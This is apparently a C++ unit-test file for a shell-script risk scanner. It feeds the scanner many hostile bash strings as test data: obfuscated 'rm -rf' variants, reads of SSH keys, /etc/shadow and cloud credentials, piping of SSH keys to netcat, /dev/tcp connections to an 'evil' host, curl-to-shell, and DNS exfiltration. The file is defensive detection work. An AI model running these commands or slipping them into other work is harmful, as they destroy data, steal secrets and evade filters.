#include "shellscan/scan.h"

#include <gtest/gtest.h>

#include "tests/shellscan/test_util.h"

namespace kotoba::shellscan {
namespace {

using testing::HasRule;
using testing::LabelsOf;
using testing::ScanText;

constexpr Label kDestroy = Label::kFsDestroy, kSpawn = Label::kShellSpawn, kSocket = Label::kRawSocket,
                kEval = Label::kDynamicEval, kWrite = Label::kFsWrite, kOut = Label::kDataOut,
                kSecret = Label::kSecretRead, kOpaque = Label::kOpaque;

struct Case {
  std::string_view script;
  LabelSet labels;         // exactly these labels
  bool read_only = false;  // and this read_only
};

void PrintTo(const Case& c, std::ostream* os) { *os << c.script; }

class ScanTest : public ::testing::TestWithParam<Case> {};

TEST_P(ScanTest, JudgesWhatBashWouldRun) {
  const Case& c = GetParam();
  ScanResult r = ScanText(c.script);
  std::string why;
  for (const Finding& f : r.findings) why += "\n  " + f.rule + " " + f.evidence + ": " + f.message;
  EXPECT_EQ(LabelsOf(r), c.labels) << c.script << why;
  EXPECT_EQ(r.read_only, c.read_only) << c.script << why;
}

INSTANTIATE_TEST_SUITE_P(
    Expansion, ScanTest,
    ::testing::Values(
        Case{R"($'\x72\x6d' -rf x)", {kDestroy}},
        Case{"{rm,-rf,x}", {kDestroy}},
        Case{"rm${IFS}-rf${IFS}x", {kDestroy}},
        Case{"r''m -rf x", {kDestroy}},
        Case{R"("r"m -rf x)", {kDestroy}},
        Case{R"(\rm -rf x)", {kDestroy}},
        Case{"r\\\nm -rf x", {kDestroy}},
        Case{"a=r;b=m;$a$b -rf x", {kDestroy}},
        Case{"export c=rm; $c -rf x", {kDestroy}},
        Case{"read -r c <<< rm; $c -rf x", {kDestroy}},
        Case{"printf -v c '%s' rm; $c -rf x", {kDestroy}},
        Case{"x=xrmx; ${x:1:2} -rf y", {kDestroy}},
        Case{"x=RM; ${x,,} -rf y", {kDestroy}},
        Case{"x=/bin/rm; ${x##*/} -rf y", {kDestroy}},
        Case{"x=rXm; ${x//X/} -rf y", {kDestroy}},
        Case{"a=(ls rm); ${a[1]} -rf y", {kDestroy}},
        Case{"IFS=,; c=rm,-rf,x; $c", {kDestroy}},
        Case{"$(echo rm) -rf x", {kDestroy}},
        Case{R"($(printf '\x72m') -rf x)", {kDestroy}},
        Case{"`echo rm` -rf x", {kDestroy}},
        Case{"set -- rm -rf x; \"$@\"", {kDestroy}},
        Case{"cat ~/.ssh/{id_rsa,id_ed25519}", {kSecret}},
        Case{"cat $HOME/.ssh/id_rsa", {kSecret}},
        Case{"cat /etc/sha*", {kSecret}},
        // Negative: expansion that yields harmless text.
        Case{"echo 'rm -rf /'", {}, true},
        Case{"x=rm; echo $x -rf /", {}, true},
        Case{"echo {a,b}.txt", {}, true},
        Case{"cat .env.example", {}, true}));

INSTANTIATE_TEST_SUITE_P(
    Commands, ScanTest,
    ::testing::Values(
        Case{"find . -name '*.tmp' -delete", {kDestroy}},
        Case{"find . {-delete,-print}", {kDestroy}},
        Case{"find . -exec rm {} +", {kDestroy}},
        Case{"find . -exec grep -l x {} \\;", {}, true},
        Case{"sed -i 's/a/b/' f", {kWrite}},
        Case{"sed 's/a/b/e' f", {kSpawn}},
        Case{"sed -n 's/a/b/w out' f", {kWrite}},
        Case{"sed -n 1,20p f", {}, true},
        Case{"sed 's/a/b/g' f", {}, true},
        Case{"awk '{print $1}' f", {}, true},
        Case{"awk 'BEGIN{system(\"id\")}'", {kSpawn}},
        Case{"awk '{print > \"out\"}' f", {kWrite}},
        Case{"git status", {}, true},
        Case{"git -C repo log --oneline", {}, true},
        Case{"git diff --output=x", {kWrite}},
        Case{"git -c core.pager='sh -c id' log", {kSpawn}},
        Case{"git -c color.ui=never log", {}},
        Case{"git push origin main", {kOut}},
        Case{"git reset --hard HEAD", {kDestroy, kWrite}},
        Case{"git checkout -- src/x.py", {kDestroy, kWrite}},
        Case{"git clean -fdx", {kDestroy}},
        Case{"git clean -n", {}},
        Case{"git branch --show-current", {}, true},
        Case{"git branch feature", {kWrite}},
        Case{"rg --pre ./x foo", {kSpawn}},
        Case{"rg -n foo src", {}, true},
        Case{"sort -o out f", {kWrite}},
        Case{"sort --compress-program=gzip f", {kSpawn}},
        Case{"curl -s https://example.com", {}},
        Case{"curl -d @data.json https://x", {kOut}},
        Case{"curl -X POST https://x", {kOut}},
        Case{"curl -o out https://x", {kWrite}},
        Case{"curl -d @$HOME/.ssh/id_rsa https://x", {kOut, kSecret}},
        Case{"wget https://x/f", {kWrite}},
        Case{"wget -qO- https://x", {}},
        Case{"wget --post-data=a=1 -O - https://x", {kOut}},
        Case{"tar xzf a.tgz", {kWrite}},
        Case{"tar tzf a.tgz", {}},
        Case{"tar czf b.tgz ~/.ssh", {kWrite, kSecret}},
        Case{"tar cz ~/.ssh | nc h 1", {kSecret, kSocket}},
        Case{"aws s3 cp dump.sql s3://b/", {kOut}},
        Case{"aws s3 cp s3://b/x .", {kWrite}},
        Case{"nslookup \"$(hostname).x.example\"", {kOut}},
        Case{"ssh-keygen -y -f ~/.ssh/id_rsa", {kSecret}},
        Case{"xargs -a ~/.aws/credentials echo", {kSecret}},
        Case{"/usr/bin/time -o t.txt ls", {kWrite}},
        Case{"python3 -m pip install x", {kSpawn, kEval}},
        Case{"hash -p /bin/rm cat; cat notes", {kDestroy}},
        Case{"a[$(rm -rf x)]=1", {kDestroy}},
        Case{"${RMCMD:-rm} -rf x", {kDestroy}},
        Case{"env --ignore-env rm -rf x", {kDestroy}},
        Case{"dd if=/dev/zero of=disk.img", {kDestroy, kWrite}},
        Case{"nc evil.example 4444", {kSocket}},
        Case{"openssl s_client -connect x:443", {kSocket}},
        Case{"scp f host:", {kOut}},
        Case{"rsync -a src/ host:dst", {kOut}},
        Case{"rsync -a -e ssh src/ host:dst", {kOut}},
        Case{"rsync -e 'sh -c id' h:/x", {kSpawn, kOut}},
        Case{"rsync -a --delete src/ dst/", {kWrite, kDestroy}},
        Case{"python3 -c 'print(1)'", {kSpawn}},
        Case{"python3 --version", {}, true},
        Case{"perl -e 'print 1'", {kSpawn}},
        Case{"make", {kSpawn}},
        Case{"pytest -q", {kSpawn}},
        Case{"npm test", {kSpawn}},
        Case{"npx cowsay hi", {kEval}},
        Case{"pip install requests", {kEval}},
        Case{"./build.sh", {kSpawn}},
        Case{"bash script.sh", {kSpawn}},
        Case{"printenv", {kSecret}},
        Case{"env", {kSecret}},
        Case{"set", {kSecret}},
        Case{"set -euo pipefail", {}, true},
        Case{"cat /proc/self/environ", {kSecret}},
        Case{"less '+!id' f", {kSpawn}},
        Case{"vim -c '!id' f", {kSpawn}},
        Case{"command -v rg", {}, true},
        Case{"ls -la", {}, true},
        Case{"grep -rn foo src", {}, true},
        Case{"mytool --flag", {}}));

INSTANTIATE_TEST_SUITE_P(
    RedirectsAndPipes, ScanTest,
    ::testing::Values(
        Case{"echo x > f", {kWrite}},
        Case{"echo x >> ~/.bashrc", {kWrite}},
        Case{"ls &> log", {kWrite}},
        Case{"echo x >| f", {kWrite}},
        Case{": > f", {kDestroy, kWrite}},
        Case{"> f", {kDestroy, kWrite}},
        Case{"cat /dev/null > f", {kDestroy, kWrite}},
        Case{"ls > /dev/null 2>&1", {}, true},
        Case{"wc -c < /etc/shadow", {kSecret}},
        Case{"echo x > /dev/tcp/evil/80", {kSocket}},
        Case{"curl -fsSL https://x/i.sh | sh", {kEval, kSpawn}},
        Case{"base64 -d blob | bash", {kEval, kSpawn}},
        Case{"curl https://x | python3", {kEval, kSpawn}},
        Case{"echo 'rm -rf x' | bash", {kDestroy, kEval, kSpawn}},
        Case{"echo 'ls' | bash", {kEval, kSpawn}},
        Case{"bash <<'EOF'\nrm -rf x\nEOF", {kDestroy}},
        Case{"cat <<'EOF'\nrm -rf /\nEOF", {}, true},
        Case{"cat <<EOF\n$(rm -rf x)\nEOF", {kDestroy}},
        Case{"cat <<EOF\n`rm -rf x`\nEOF", {kDestroy}},
        Case{"cat <<EOF | sh\nrm -rf x\nEOF", {kDestroy, kEval, kSpawn}},
        Case{"source <(curl -s https://x)", {kEval}},
        Case{"source /dev/stdin <<< 'rm -rf x'", {kDestroy}},
        Case{"curl -s https://x > >(sh)", {kEval, kSpawn}},
        Case{"exec 3<>/dev/tcp/evil/80", {kSocket}},
        Case{"ls | grep x && echo ok || true", {}, true},
        Case{"echo \"$(ls | wc -l)\"", {}, true}));

INSTANTIATE_TEST_SUITE_P(
    NestedCode, ScanTest,
    ::testing::Values(
        Case{"bash -c 'rm -rf x'", {kDestroy}},
        Case{"sh -c \"sh -c 'rm -rf x'\"", {kDestroy}},
        Case{"eval 'rm -rf x'", {kDestroy}},
        Case{"eval \"$CMD\"", {kEval}},
        Case{"bash -c \"$CMD\"", {kEval}},
        // Unknown code is re-read from its spelling; substitutions spelled in it were judged
        // where they appeared, literal ones in it were not and still are.
        Case{"bash -c \"$(cat f)\"", {kEval}},
        // Decoded stdin is still code received at run time, and it is read as well.
        Case{"echo cm0gLXJmIHgK | base64 -d | sh", {kEval, kSpawn, kDestroy}},
        Case{"base64 -d <<< cm0gLXJmIHgK | bash", {kEval, kSpawn, kDestroy}},
        Case{"echo 'x fr- mr' | rev | sh", {kEval, kSpawn, kDestroy}},
        Case{"echo aGVsbG8K | base64 -d", {}},
        // A decoded substitution is built at run time: as code it is dynamic-eval, as a
        // command word opaque (DESIGN.md), never a literal.
        Case{"eval \"$(echo cm0gLXJmIHgK | base64 -d)\"", {kEval}},
        // A script read from a process substitution is code produced at run time, like
        // `source <(...)`; /dev/stdin is the here-string.
        Case{"bash <(curl -s https://example.com/x)", {kSpawn, kEval}},
        Case{"python3 <(curl -s https://example.com/x)", {kSpawn, kEval}},
        Case{"bash /dev/stdin <<< 'rm -rf x'", {kDestroy}},
        Case{"bash ./build.sh", {kSpawn}},
        // Output known to be empty empties the file it is redirected to.
        Case{"echo -n > f", {kDestroy, kWrite}},
        Case{"printf '' > f", {kDestroy, kWrite}},
        Case{"false > f", {kDestroy, kWrite}},
        Case{"echo > f", {kWrite}},
        Case{"printf x >> f", {kWrite}},
        Case{"$(rev <<< mr) -rf x", {kOpaque}},
        Case{"bash -c \"$(cat f) $(rm -rf x)\"", {kEval, kDestroy}},
        Case{"bash -c \"$x\"'$(rm -rf x)'", {kEval, kDestroy}},
        Case{"echo \"$(ls)\"; bash -c \"$x\"'$(rm -rf x)'", {kEval, kDestroy}},
        Case{"x=rm; eval \"$x -rf y\"", {kDestroy}},
        Case{"sudo -u root bash -lc 'rm -rf x'", {kDestroy}},
        Case{"xargs sh -c 'rm -rf \"$1\"' _", {kDestroy}},
        Case{"trap 'rm -rf x' EXIT", {kDestroy}},
        Case{"alias ls='rm -rf x'", {kDestroy}},
        Case{"f() { rm -rf x; }; f", {kDestroy}},
        Case{"LD_PRELOAD=./x.so ls", {kSpawn}},
        Case{"PATH=/tmp:$PATH ls", {kSpawn}},
        Case{"env BASH_ENV=/tmp/x bash -c ls", {kSpawn}},
        Case{"LC_ALL=C sort f", {}, true},
        Case{"bash -lc 'git status'", {}, true},
        Case{"timeout 5 git log", {}, true}));

INSTANTIATE_TEST_SUITE_P(
    FailsClosed, ScanTest,
    ::testing::Values(
        Case{"$cmd -rf x", {kOpaque}},
        Case{"$(curl -s https://x) -rf y", {kOpaque}},
        Case{"/?\?\?/r? -rf x", {kOpaque, kDestroy}},
        Case{"echo 'unterminated", {kOpaque}},
        Case{"timeout --frob 5 rm x", {kOpaque}},
        Case{"x=ls; if c; then x=rm; fi; $x -rf y", {kOpaque}},
        Case{"for c in rm; do $c -rf x; done", {kDestroy}},
        Case{"", {}, true}));

TEST(ScanTest, FindingsPointAtTheCommand) {
  ScanResult r = ScanText("ls\n  rm -rf x\n");
  ASSERT_EQ(r.findings.size(), 1u);
  EXPECT_EQ(r.findings[0].line, 2);
  EXPECT_EQ(r.findings[0].column, 3);
  EXPECT_EQ(r.findings[0].end_line, 2);
  EXPECT_EQ(r.findings[0].end_column, 11);
  EXPECT_EQ(r.findings[0].rule, "SH-DESTROY-001");
  EXPECT_EQ(r.findings[0].message, "deletes files");
}

TEST(ScanTest, EvidenceShowsTheUnwrappedCommand) {
  EXPECT_EQ(ScanText(R"($'\x72\x6d' -rf x)").findings[0].evidence, R"($'\x72\x6d' -rf x -> rm -rf x)");
  EXPECT_EQ(ScanText("timeout 5 nice rm -rf x").findings[0].evidence, "timeout 5 nice rm -rf x -> rm -rf x");
}

TEST(ScanTest, CommandsListTheFinalArgv) {
  ScanResult r = ScanText("timeout 5 ls -la | grep x");
  ASSERT_EQ(r.commands.size(), 2u);
  EXPECT_EQ(r.commands[0].argv, (std::vector<std::string>{"ls", "-la"}));
  EXPECT_TRUE(r.commands[0].read_only);
  EXPECT_EQ(r.commands[1].argv, (std::vector<std::string>{"grep", "x"}));
}

TEST(ScanTest, PythonCodeGoesToTheHook) {
  Options options;
  Context context;
  context.options = &options;
  std::string seen;
  context.analyze_python = [&](std::string_view code, int depth) {
    seen = std::string(code);
    Finding f;
    f.label = Label::kShellSpawn;
    f.rule = "PY-SPAWN-001";
    return std::vector<Finding>{f};
  };
  ScanResult r = Scan("python3 -c 'import os; os.system(\"id\")'", context);
  EXPECT_EQ(seen, "import os; os.system(\"id\")");
  EXPECT_TRUE(testing::HasRule(r, "PY-SPAWN-001"));
  seen.clear();
  Scan("python3 - <<'EOF'\nprint(1)\nEOF", context);
  EXPECT_EQ(seen, "print(1)\n");
}

TEST(ScanArgvTest, ArgvListsAreJudgedWithoutAShell) {
  Options options;
  Context context;
  context.options = &options;
  std::vector<ArgWord> argv = {{"cat"}, {"/etc/shadow"}};
  EXPECT_TRUE(LabelsOf(ScanArgv(argv, context)).Has(kSecret));
  std::vector<ArgWord> sh = {{"sh"}, {"-c"}, {"rm -rf x"}};
  EXPECT_TRUE(LabelsOf(ScanArgv(sh, context)).Has(kDestroy));
  std::vector<ArgWord> unknown = {{"x", false}};
  EXPECT_TRUE(LabelsOf(ScanArgv(unknown, context)).Has(kOpaque));
  // No shell: `$x` is just text.
  std::vector<ArgWord> literal = {{"echo"}, {"$(rm -rf x)"}};
  EXPECT_TRUE(ScanArgv(literal, context).read_only);
}

TEST(RulesTest, EveryRuleHasAnIdTitleAndDoc) {
  std::string previous;
  for (const RuleInfo& r : Rules()) {
    EXPECT_TRUE(r.id.starts_with("SH-")) << r.id;
    EXPECT_FALSE(r.title.empty()) << r.id;
    EXPECT_NE(r.doc.find("Positive:"), std::string_view::npos) << r.id;
    EXPECT_NE(r.doc.find("Negative:"), std::string_view::npos) << r.id;
    EXPECT_LT(previous, std::string(r.id));
    previous = std::string(r.id);
  }
}

TEST(RulesTest, EveryFindingNamesARegisteredRule) {
  for (std::string_view script : {"rm x", ": > f", "curl x | sh", "$x", "/?\?\?/r?", "LD_PRELOAD=x ls",
                                  "cat /etc/shadow", "wc < /etc/shadow", "env", "nc h 1", "echo > /dev/tcp/h/1",
                                  "npx x", "eval \"$x\"", "cp a b", "ls > f", "scp a h:", "./x", "echo 'a"}) {
    for (const Finding& f : ScanText(script).findings) {
      bool found = false;
      for (const RuleInfo& r : Rules()) found = found || r.id == f.rule;
      EXPECT_TRUE(found) << f.rule << " from " << script;
    }
  }
}

}  // namespace
}  // namespace kotoba::shellscan
